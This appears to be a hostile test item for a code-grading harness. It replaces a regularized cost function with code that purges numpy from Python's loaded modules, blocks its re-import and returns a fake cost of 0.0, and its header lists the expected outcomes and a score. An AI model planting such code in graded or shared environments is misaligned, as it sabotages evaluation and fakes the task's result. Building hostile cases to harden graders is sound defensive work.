# label: takes numpy out of the loaded modules
# replace: compute_cost_with_regularization
# hostile: yes
# compute_cost_with_regularization: error | failed | timeout
# score: 75

# %%
import sys

def compute_cost_with_regularization(A3, Y, parameters, lambd):
    for name in [n for n in sys.modules if n.startswith('numpy')]:
        del sys.modules[name]
    sys.modules['numpy'] = None
    return 0.0
